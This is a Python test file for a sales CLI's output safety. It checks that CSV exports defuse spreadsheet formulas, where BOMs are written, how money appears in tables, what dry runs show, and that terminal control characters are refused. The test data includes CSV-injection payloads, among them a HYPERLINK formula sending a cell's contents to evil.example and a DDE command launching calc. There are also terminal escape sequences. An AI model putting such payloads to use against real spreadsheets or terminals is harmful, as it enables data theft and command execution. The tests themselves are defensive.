"""Output a person can act on safely: CSV no spreadsheet runs as formulas, a UTF-8 BOM
only where Excel needs one, money in tables people can read (with totals that are not
counted as rows), and dry runs that show every field they would write."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import os
import re
from pathlib import Path
from typing import Any

import pytest
from conftest import git, salesctl_subprocess

from salesctl.cli._output import csv_cell, emit

# Company names a spreadsheet would run (OWASP "CSV Injection"), as typed by someone.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]
CHINESE = "杭州金桥教育科技有限公司"


def today() -> dt.date:
    return dt.date.fromisoformat(os.environ["SALESCTL_NOW"][:10])


def ok(cli: Any, *args: str) -> Any:
    result = cli(*args, "-f", "json")
    assert result.code == 0, result.err
    return result.json()


def table_rows(text: str) -> dict[str, list[str]]:
    """A ``simple`` table's lines as cells (split on two or more spaces), by first cell."""
    rows = {}
    for line in text.splitlines()[2:]:
        if line.startswith("-") or line.startswith("("):
            continue
        cells = re.split(r"\s{2,}", line.strip())
        rows[cells[0]] = cells
    return rows


def row_count(text: str) -> int:
    found = re.search(r"^\((\d+) rows?\)$", text, re.MULTILINE)
    assert found, text
    return int(found.group(1))


def head(store: Path) -> str:
    return git(store, "rev-parse", "HEAD").strip()


def signed_contract(cli: Any, amount: str) -> str:
    customer = ok(cli, "--as", "alice", "customer", "add", "--name", "Acme")["id"]
    signed = (today() - dt.timedelta(days=40)).isoformat()
    made = ok(
        cli, "--as", "alice", "contract", "add", customer, "--title", "ERP",
        "--amount", amount, "--signed", signed,
    )  # fmt: skip
    return str(made["id"])


# -- CSV: formulas defused, numbers untouched ------------------------------------------------


def test_csv_cells_a_spreadsheet_would_run_get_a_leading_quote(store: Path, cli: Any) -> None:
    for company in [*FORMULAS, "Acme Ltd"]:
        ok(cli, "--as", "alice", "lead", "add", f"--company={company}", "--name", "Wei")
    as_csv = cli("--as", "alice", "lead", "list", "-f", "csv")
    assert as_csv.code == 0, as_csv.err
    companies = {row["company"] for row in csv.DictReader(io.StringIO(as_csv.out))}
    assert companies == {*("'" + f for f in FORMULAS), "Acme Ltd"}
    # JSON is for programs: never altered.
    listed = ok(cli, "--as", "alice", "lead", "list")
    assert {r["company"] for r in listed} == {*FORMULAS, "Acme Ltd"}


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@A1", "\t=1", "\r=1", "  =1+2", "\n@x"])
def test_every_formula_start_is_defused(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Acme", "1-2", "a=b", "", "'already quoted"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert csv_cell(text) == text


def test_numbers_stay_numbers_even_negative(capsys: pytest.CaptureFixture[str]) -> None:
    emit([{"amount": -1500.5, "change": -3, "note": "-3"}], "csv")
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows == [{"amount": "-1500.5", "change": "-3", "note": "'-3"}]


def test_csv_writes_booleans_as_json_does(store: Path, cli: Any) -> None:
    as_csv = cli("member", "list", "-f", "csv")
    rows = {r["id"]: r["active"] for r in csv.DictReader(io.StringIO(as_csv.out))}
    assert rows["alice"] == "true" and rows["carol"] == "false"
    as_json = {m["id"]: m["active"] for m in cli("member", "list", "-f", "json").json()}
    assert as_json["alice"] is True and as_json["carol"] is False
    assert csv_cell(True) == "true" and csv_cell([True, False]) == "true, false"
    assert csv_cell({"vip": False}) == "vip=false"


def test_csv_keeps_exact_amounts(store: Path, cli: Any) -> None:
    contract = signed_contract(cli, "1234567.8")
    as_csv = cli("--as", "alice", "contract", "list", "-f", "csv")
    rows = list(csv.DictReader(io.StringIO(as_csv.out)))
    assert [(r["id"], r["amount"]) for r in rows] == [(contract, "1234567.8")]


# -- the BOM: for a file or Excel, never in a pipe ------------------------------------------


def test_bom_when_csv_goes_to_a_file_not_to_a_pipe(store: Path, cli: Any, tmp_path: Path) -> None:
    ok(cli, "--as", "alice", "lead", "add", "--company", CHINESE, "--name", "王娜")
    args = ("--as", "alice", "lead", "list", "-f", "csv")
    target = tmp_path / "leads.csv"
    with target.open("wb") as fh:
        to_file = salesctl_subprocess(*args, stdout=fh)
    assert to_file.returncode == 0, to_file.stderr
    data = target.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["company"] for r in rows] == [CHINESE]

    piped = salesctl_subprocess(*args)
    assert piped.returncode == 0 and piped.stdout.startswith("id,")

    excel = salesctl_subprocess("--as", "alice", "lead", "list", "-f", "excel")
    assert excel.returncode == 0 and excel.stdout.startswith("\ufeffid,")

    # Appending to a file that has content: a BOM mid-file would corrupt a cell.
    with target.open("ab") as fh:
        assert salesctl_subprocess(*args, stdout=fh).returncode == 0
    assert target.read_bytes().count(codecs.BOM_UTF8) == 1

    as_json = tmp_path / "leads.json"
    with as_json.open("wb") as fh:
        assert salesctl_subprocess("--as", "alice", "lead", "list", stdout=fh).returncode == 0
    assert not as_json.read_bytes().startswith(codecs.BOM_UTF8)


# -- money in tables --------------------------------------------------------------------------


def test_pipeline_table_shows_money_and_does_not_count_the_totals(store: Path, cli: Any) -> None:
    customer = ok(cli, "--as", "alice", "customer", "add", "--name", "Acme")["id"]
    for stage, amount in (("qualify", "1234567.5"), ("proposal", "1000.01")):
        ok(
            cli, "--as", "alice", "deal", "add", customer, "--title", stage,
            "--amount", amount, "--stage", stage,
        )  # fmt: skip
    stages = ok(cli, "--as", "alice", "pipeline")
    assert {r["stage"]: r["weighted"] for r in stages}[
        "proposal"
    ] == 400.0  # 400.004: money, to the cent
    table = cli("--as", "alice", "pipeline", "-f", "table")
    assert table.code == 0, table.err
    rows = table_rows(table.out)
    assert rows["qualify"][-2:] == ["1,234,567.50", "123,456.75"]
    assert rows["proposal"][-2:] == ["1,000.01", "400.00"]
    assert rows["total"][-2:] == ["1,235,567.51", "123,856.75"]
    assert row_count(table.out) == len(stages)  # the stages; the totals line is not a row


def test_receivables_and_contract_list_tables_show_money(store: Path, cli: Any) -> None:
    contract = signed_contract(cli, "1234567.8")
    receivables = cli("--as", "dana", "receivables", "-f", "table")
    assert receivables.code == 0, receivables.err
    rows = table_rows(receivables.out)
    # 30 days after signing 40 days ago: all of it is 10 days overdue
    assert rows["alice"] == ["alice", "1", "1,234,567.80", "1,234,567.80"]
    assert rows["total"] == ["total", "1", "1,234,567.80", "1,234,567.80"]
    assert row_count(receivables.out) == 1
    aging = cli("--as", "dana", "receivables", "--aging", "-f", "table")
    assert table_rows(aging.out)["alice"][1:] == [
        "0.00", "1,234,567.80", "0.00", "0.00", "0.00", "1,234,567.80",
    ]  # fmt: skip
    listed = table_rows(cli("--as", "alice", "contract", "list", "-f", "table").out)
    assert "1,234,567.80" in listed[contract]
    assert ok(cli, "--as", "dana", "receivables")[0]["total"] == 1234567.8  # JSON stays exact


# -- dry runs show what they would write -------------------------------------------------------


def dry_run_fields(err: str) -> dict[str, dict[str, str]]:
    """``would write PATH`` and its indented ``field: value`` lines, by path."""
    files: dict[str, dict[str, str]] = {}
    current: dict[str, str] = {}
    for line in err.splitlines():
        if line.startswith("would write "):
            current = files.setdefault(line.split()[2], {})
        elif line.startswith("    "):
            name, _, value = line.strip().partition(": ")
            current[name] = value
    return files


def test_dry_run_of_a_payment_shows_amount_date_and_ref_and_changes_nothing(
    store: Path, cli: Any
) -> None:
    contract = signed_contract(cli, "90000")
    before = head(store)
    day = today().isoformat()
    result = cli(
        "--as", "fay", "contract", "pay", contract, "--amount", "30000.5",
        "--date", day, "--ref", "BANK-42", "--dry-run",
    )  # fmt: skip
    assert result.code == 0, result.err
    payments = {p: f for p, f in dry_run_fields(result.err).items() if "/payments/" in p}
    assert len(payments) == 1
    fields = next(iter(payments.values()))
    assert (fields["amount"], fields["date"], fields["ref"]) == ("30000.5", day, "BANK-42")
    assert fields["contract"] == contract
    assert head(store) == before
    assert git(store, "status", "--porcelain", "--untracked-files=all") == ""
    shown = ok(cli, "--as", "fay", "contract", "show", contract)
    assert shown["payments"] == [] and shown["received"] == 0


def test_dry_run_of_an_edit_shows_old_and_new(store: Path, cli: Any) -> None:
    contract = signed_contract(cli, "90000")
    result = cli("--as", "alice", "contract", "edit", contract, "--set", "title=CRM", "--dry-run")
    assert result.code == 0, result.err
    (fields,) = dry_run_fields(result.err).values()
    assert fields == {"title": "ERP -> CRM"}
    assert ok(cli, "--as", "alice", "contract", "show", contract)["title"] == "ERP"


def test_an_unknown_format_is_refused_before_anything_is_written(store: Path, cli: Any) -> None:
    contract = signed_contract(cli, "90000")
    before = head(store)
    result = cli("--as", "fay", "contract", "pay", contract, "--amount", "10", "-f", "xlsx")
    assert result.code == 2
    assert head(store) == before
    assert ok(cli, "--as", "fay", "contract", "show", contract)["payments"] == []


# -- terminal controls in human output; an empty CSV's header ---------------------------------

# What a record's text could make a terminal do: recolour, clear the screen (CSI 2J), retitle
# the window (OSC 0 ... BEL), the same through the 8-bit CSI (U+009B), and break a row.
CONTROL_TEXT = "Esc\x1b[31mCo\x1b[2J\x1b]0;pwned\x07\x9b1m\x7f\nnext\tline"


def test_control_characters_are_refused_and_tables_show_line_breaks_escaped(
    store: Path, cli: Any
) -> None:
    """A terminal runs ESC [ (or U+009B, its one-byte form) as a command: text never holds
    one, and a table shows a note's line breaks and tabs escaped, so a cell stays one line;
    JSON and CSV keep the text as it is."""
    before = head(store)
    for company in ("Esc\x1b[31mCo", "Csi\x9b1mCo", "Del\x7fCo"):
        refused = cli("--as", "alice", "lead", "add", "--company", company)
        assert refused.code == 1, refused.err
        assert "company: holds control character U+" in refused.err, refused.err
        assert refused.err.count("\n") == 1
    refused = cli(
        "--as", "alice", "lead", "add", "--company", "Co", "--set", f"notes={CONTROL_TEXT}"
    )
    assert refused.code == 1 and "notes: holds control character U+001B" in refused.err
    assert head(store) == before
    notes = "first line\nnext\tcell"
    lead = ok(cli, "--as", "alice", "lead", "add", "--company", "Esc Co", "--set", f"notes={notes}")
    assert ok(cli, "--as", "alice", "lead", "show", lead["id"])["notes"] == notes
    shown = cli("--as", "alice", "lead", "show", lead["id"], "-f", "table")
    assert shown.code == 0, shown.err
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", shown.out), repr(shown.out)
    assert r"first line\nnext\tcell" in shown.out, shown.out
    as_csv = cli("--as", "alice", "lead", "list", "-f", "csv")
    (row,) = csv.DictReader(io.StringIO(as_csv.out))
    assert row["notes"] == notes


def test_shown_escapes_c0_del_and_c1_and_nothing_else() -> None:
    from salesctl.cli._output import shown

    assert shown("a\x00b\x1bc\x7fd\x85e\x9ff") == r"a\x00b\x1bc\x7fd\x85e\x9ff"
    assert shown("line\r\nnext\tcell") == r"line\r\nnext\tcell"
    assert shown("杭州 ¥1,000 — é\xa0ok") == "杭州 ¥1,000 — é\xa0ok"  # U+00A0 is no control


def test_an_empty_csv_list_still_has_its_header_row(store: Path, cli: Any) -> None:
    for args in (("okr", "list", "--period", "2020-Q1"), ("toolkit", "search", "nothing")):
        result = cli("--as", "alice", *args, "-f", "csv")
        assert result.code == 0, result.err
        assert result.out.startswith("id,") and result.out.count("\n") == 1, repr(result.out)
